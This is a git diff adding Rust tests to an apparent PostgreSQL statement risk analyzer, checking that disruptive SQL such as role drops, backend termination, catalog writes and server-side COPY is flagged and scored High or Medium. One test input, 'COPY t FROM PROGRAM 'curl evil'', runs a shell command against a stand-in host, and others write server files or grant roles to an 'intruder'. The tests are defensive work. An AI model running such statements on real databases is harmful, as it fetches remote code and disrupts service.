@@ -270,3 +270,126 @@ fn losing_data_that_exists_is_at_least_high() {
         offline.risk_score
     );
 }
+
+/// The rules that say what a disruptive statement breaks.
+const DISRUPTION_RULES: &[&str] = &[
+    "privilege-change",
+    "role-change",
+    "ownership-change",
+    "server-configuration",
+    "database-level",
+    "interrupts-backends",
+    "writes-system-catalog",
+    "server-side-program",
+    "server-side-file",
+    "cross-database-call",
+];
+
+fn disruption_findings(a: &Analysis) -> Vec<&'static str> {
+    a.statements
+        .iter()
+        .flat_map(|s| &s.findings)
+        .map(|f| f.rule.id())
+        .filter(|id| DISRUPTION_RULES.contains(id))
+        .collect()
+}
+
+#[test]
+fn disruptive_statements_are_never_low() {
+    let high = [
+        ("REVOKE SELECT ON orders FROM app", "privilege-change"),
+        (
+            "REVOKE ALL ON SCHEMA public FROM PUBLIC",
+            "privilege-change",
+        ),
+        ("ALTER ROLE app NOLOGIN", "role-change"),
+        ("DROP ROLE app", "role-change"),
+        (
+            "ALTER SYSTEM SET max_connections = 10",
+            "server-configuration",
+        ),
+        (
+            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
+            "interrupts-backends",
+        ),
+        (
+            "UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1",
+            "writes-system-catalog",
+        ),
+        ("COPY t FROM PROGRAM 'curl evil'", "server-side-program"),
+        ("COPY t TO '/tmp/x'", "server-side-file"),
+        ("ALTER DATABASE shop SET search_path = x", "database-level"),
+    ];
+    let medium = [
+        (
+            "SELECT pg_catalog.pg_cancel_backend(123)",
+            "interrupts-backends",
+        ),
+        (
+            "SELECT dblink_exec('dbname=other', 'DROP TABLE t')",
+            "cross-database-call",
+        ),
+        ("GRANT app TO intruder", "privilege-change"),
+        ("ALTER TABLE t OWNER TO other", "ownership-change"),
+        ("CREATE ROLE x", "role-change"),
+    ];
+    for (sql, rule) in high {
+        for snapshot in [None, Some(&shop(0))] {
+            let a = run(sql, snapshot);
+            assert!(
+                a.risk_category >= RiskCategory::High,
+                "{sql}: {}",
+                a.risk_score
+            );
+            assert_eq!(disruption_findings(&a), vec![rule], "{sql}");
+        }
+    }
+    for (sql, rule) in medium {
+        for snapshot in [None, Some(&shop(0))] {
+            let a = run(sql, snapshot);
+            assert_eq!(
+                a.risk_category,
+                RiskCategory::Medium,
+                "{sql}: {}",
+                a.risk_score
+            );
+            assert_eq!(disruption_findings(&a), vec![rule], "{sql}");
+        }
+    }
+}
+
+#[test]
+fn silencing_a_disruption_rule_keeps_the_score() {
+    for (sql, rule) in [
+        ("REVOKE SELECT ON orders FROM app", "privilege-change"),
+        ("ALTER ROLE app NOLOGIN", "role-change"),
+        ("SELECT pg_cancel_backend(123)", "interrupts-backends"),
+    ] {
+        let plain = run(sql, None);
+        let ignored = run(&format!("-- autodb:ignore {rule}\n{sql}"), None);
+        assert!(disruption_findings(&ignored).is_empty(), "{sql}");
+        assert_eq!(ignored.risk_score, plain.risk_score, "{sql}");
+        assert!(ignored.risk_category >= RiskCategory::Medium, "{sql}");
+    }
+}
+
+#[test]
+fn ordinary_statements_are_not_disruptive() {
+    for sql in [
+        "CREATE TABLE t (id bigint)",
+        "SELECT 1",
+        "SELECT now()",
+        "SELECT relname FROM pg_catalog.pg_class",
+        "COPY orders FROM STDIN",
+        "SET search_path = app",
+    ] {
+        let a = run(sql, Some(&shop(1_000)));
+        assert!(disruption_findings(&a).is_empty(), "{sql}");
+        assert_eq!(
+            a.risk_category,
+            RiskCategory::Low,
+            "{sql}: {}",
+            a.risk_score
+        );
+    }
+}
